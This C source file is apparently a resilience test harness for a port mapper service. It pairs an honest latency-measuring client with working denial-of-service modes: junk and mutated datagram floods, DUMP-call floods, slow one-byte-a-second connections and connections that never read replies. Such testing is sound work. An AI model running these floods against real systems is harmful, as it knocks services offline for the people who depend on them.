/* Clients of a port mapper: an honest one, and those that want to keep it from being answered.
 *
 *   abuse udp|connect HOST SOURCE RATE SECONDS       honest GETPORT calls; over TCP each connects
 *   abuse junk|dump   HOST SOURCES RATE SECONDS      datagrams; a rate of 0 is as fast as it goes
 *   abuse dumps       HOST SOURCES RATE SECONDS      DUMP calls on a connection, replies are read
 *   abuse slow        HOST SOURCES COUNT SECONDS     connections, a byte of a call a second on each
 *   abuse deaf        HOST SOURCES COUNT SECONDS     connections that ask for DUMP and never read
 *
 * The sources are 10.8.2.1 and the following, eight to a network of 24 bits. One line of JSON is
 * printed at the end. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { SAMPLES = 1 << 20, POOL = 1024, LONGEST = 1200, BATCH = 32 };
static const double RETRY = 0.5, PATIENCE = 5.0, TICK = 0.001;

static struct sockaddr_in server = {.sin_family = AF_INET};
static uint32_t getport[] = {0, 0, 2, 100000, 2, 3, 0, 0, 0, 0, 100000, 2, 6, 0};
static uint32_t dump[] = {0, 0, 2, 100000, 4, 4, 0, 0, 0, 0};
static double latency[SAMPLES];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void wait_until(double when) {
    double left = when - now();
    if (left > 0)
        usleep(left * 1e6);
}

static void die(const char *what) {
    perror(what);
    exit(1);
}

static int from(struct in_addr source, int type) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = source};
    int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0), one = 1;
    struct linger at_once = {1, 0};
    if (fd < 0)
        die("socket");
    setsockopt(fd, SOL_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &one, sizeof one);
    if (type == SOCK_STREAM)
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    if (bind(fd, (struct sockaddr *)&address, sizeof address))
        die("bind");
    if (connect(fd, (struct sockaddr *)&server, sizeof server) && errno != EINPROGRESS)
        return close(fd), -1;
    return fd;
}

static int attacker(int number, int type) {
    struct in_addr source = {htonl(0x0a080201 + number % 8 * 256 + number / 8)};
    return from(source, type);
}

static int ready(int fd, short events, double until) {
    struct pollfd polled = {fd, events, 0};
    double left = until - now();
    return left > 0 && poll(&polled, 1, left * 1000 + 1) > 0;
}

/* The port is the last word of the reply. */
static int right(const uint32_t *reply, ssize_t size, uint32_t xid) {
    return size == 28 && reply[0] == xid && ntohl(reply[6]) == 111;
}

static int ask_udp(int fd, double began, unsigned *resent) {
    uint32_t reply[16];
    for (double retry = RETRY; now() - began < PATIENCE; retry *= 2, ++*resent) {
        double until = now() + retry;
        send(fd, getport, sizeof getport, 0);
        while (ready(fd, POLLIN, until)) {
            ssize_t size = recv(fd, reply, sizeof reply, 0);
            if (right(reply, size, getport[0]))
                return 1;
        }
    }
    return 0;
}

static int ask_tcp(struct in_addr source, double began) {
    uint32_t record[1 + sizeof getport / 4], reply[16];
    size_t have = 0;
    int fd = from(source, SOCK_STREAM), done = 0;
    if (fd < 0)
        return 0;
    record[0] = htonl(0x80000000u | sizeof getport);
    memcpy(record + 1, getport, sizeof getport);
    if (ready(fd, POLLOUT, began + PATIENCE) &&
        send(fd, record, sizeof record, MSG_NOSIGNAL) == sizeof record)
        while (have < 32 && ready(fd, POLLIN, began + PATIENCE)) {
            ssize_t size = recv(fd, (char *)reply + have, sizeof reply - have, 0);
            if (size <= 0)
                break;
            have += size;
        }
    done = right(reply + 1, (ssize_t)have - 4, getport[0]);
    close(fd);
    return done;
}

static int by_size(const void *a, const void *b) {
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static void honest(int stream, const char *host, double rate, double seconds) {
    struct in_addr source;
    unsigned calls = 0, failed = 0, resent = 0;
    inet_pton(AF_INET, host, &source);
    int fd = stream ? -1 : from(source, SOCK_DGRAM);
    double next = now(), until = next + seconds;
    while (now() < until && calls < SAMPLES) {
        wait_until(next);
        next += 1 / rate;
        getport[0] = htonl(++calls);
        double began = now();
        failed += !(stream ? ask_tcp(source, began) : ask_udp(fd, began, &resent));
        latency[calls - 1] = now() - began;
        if (next < now())
            next = now();
    }
    qsort(latency, calls, sizeof *latency, by_size);
    printf("{\"calls\": %u, \"failed\": %u, \"resent\": %u, \"p50\": %.1f, \"p99\": %.1f, "
           "\"max\": %.1f}\n",
           calls, failed, resent, latency[calls / 2] * 1e6, latency[calls * 99 / 100] * 1e6,
           latency[calls - 1] * 1e6);
}

static unsigned char pool[POOL][LONGEST];
static size_t pool_size[POOL];

/* Random bytes, and calls of which some have changed. */
static void make_junk(void) {
    for (int i = 0; i < POOL; i++) {
        size_t size = i % 2 ? sizeof getport : 1u + rand() % LONGEST;
        for (size_t at = 0; at < size; at++)
            pool[i][at] = rand();
        if (i % 2) {
            memcpy(pool[i], getport, sizeof getport);
            for (int n = rand() % 4; n >= 0; n--)
                pool[i][rand() % sizeof getport] = rand();
            size = rand() % 2 ? size : 1 + rand() % size;
        }
        pool_size[i] = size;
    }
}

static void datagrams(int junk, int sources, double rate, double seconds) {
    int fds[256];
    unsigned long sent = 0, answered = 0;
    static char reply[65536];
    make_junk();
    for (int i = 0; i < sources; i++)
        fds[i] = attacker(i, SOCK_DGRAM);
    double began = now();
    while (now() < began + seconds) {
        unsigned long due = rate ? (now() - began) * rate : sent + BATCH;
        struct mmsghdr out[BATCH] = {0};
        struct iovec part[BATCH];
        if (due <= sent) {
            usleep(TICK * 1e6);
            continue;
        }
        int count = due - sent < BATCH ? due - sent : BATCH, fd = fds[rand() % sources];
        for (int i = 0; i < count; i++) {
            int n = rand() % POOL;
            part[i] = junk ? (struct iovec){pool[n], pool_size[n]}
                           : (struct iovec){dump, sizeof dump};
            out[i].msg_hdr = (struct msghdr){.msg_iov = &part[i], .msg_iovlen = 1};
        }
        sendmmsg(fd, out, count, 0);
        sent += count;
        while (recv(fd, reply, sizeof reply, 0) > 0)
            answered++;
    }
    printf("{\"sent\": %lu, \"a_second\": %.0f, \"answered\": %lu}\n", sent, sent / seconds,
           answered);
}

/* One connection; a new one when it ends. */
static void dumps(double rate, double seconds) {
    static char reply[1 << 20];
    unsigned long sent = 0, received = 0;
    uint32_t record[11] = {htonl(0x80000000u | sizeof dump)};
    memcpy(record + 1, dump, sizeof dump);
    int fd = -1;
    double began = now();
    while (now() < began + seconds) {
        if (fd < 0)
            fd = attacker(0, SOCK_STREAM);
        unsigned long due = (now() - began) * rate;
        for (; sent < due; sent++)
            if (send(fd, record, sizeof record, MSG_NOSIGNAL) != sizeof record)
                break;
        ssize_t size = recv(fd, reply, sizeof reply, 0);
        if (size > 0)
            received += size;
        else if (size == 0 || (errno != EAGAIN && errno != ENOTCONN))
            close(fd), fd = -1;
        usleep(TICK * 1e6);
    }
    printf("{\"sent\": %lu, \"received\": %lu}\n", sent, received);
}

static void connections(int deaf, int sources, int count, double seconds) {
    static char flood[200 * 44];
    int *fds = malloc(count * sizeof *fds), room = 4096;
    unsigned long opened = 0, written = 0;
    uint32_t record[11] = {htonl(0x80000000u | sizeof dump)};
    memcpy(record + 1, dump, sizeof dump);
    for (int i = 0; i < 200; i++)
        memcpy(flood + 44 * i, record, 44);
    for (int i = 0; i < count; i++)
        fds[i] = -1;
    double began = now();
    for (int i = 0; now() < began + seconds; i = (i + 1) % count) {
        char byte;
        if (fds[i] >= 0 && !deaf && recv(fds[i], &byte, 1, MSG_PEEK) == 0)
            close(fds[i]), fds[i] = -1;
        if (fds[i] < 0) {
            fds[i] = attacker(i % sources, SOCK_STREAM);
            if (fds[i] >= 0 && deaf)
                setsockopt(fds[i], SOL_SOCKET, SO_RCVBUF, &room, sizeof room);
            opened++;
        }
        ssize_t size = send(fds[i], flood, deaf ? sizeof flood : 1, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (size > 0)
            written += size;
        else if (errno != EAGAIN && errno != ENOTCONN && errno != EINPROGRESS)
            close(fds[i]), fds[i] = -1;
        if (deaf || i % 20 == 0) /* the first round opens all within a second */
            usleep(deaf ? 10000 / count + 1000 : 20 * 1e6 / count);
    }
    printf("{\"connections\": %d, \"opened\": %lu, \"written\": %lu}\n", count, opened, written);
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: abuse MODE HOST SOURCES RATE|COUNT SECONDS\n");
        return 2;
    }
    const char *mode = argv[1];
    double rate = atof(argv[4]), seconds = atof(argv[5]);
    struct rlimit files = {16384, 16384};
    setrlimit(RLIMIT_NOFILE, &files);
    server.sin_port = htons(111);
    inet_pton(AF_INET, argv[2], &server.sin_addr);
    for (size_t i = 0; i < sizeof getport / 4; i++)
        getport[i] = htonl(getport[i]);
    for (size_t i = 0; i < sizeof dump / 4; i++)
        dump[i] = htonl(dump[i]);
    if (!strcmp(mode, "udp") || !strcmp(mode, "connect"))
        honest(*mode == 'c', argv[3], rate, seconds);
    else if (!strcmp(mode, "junk") || !strcmp(mode, "dump"))
        datagrams(*mode == 'j', atoi(argv[3]), rate, seconds);
    else if (!strcmp(mode, "dumps"))
        dumps(rate, seconds);
    else
        connections(*mode == 'd', atoi(argv[3]), rate, seconds);
    return 0;
}
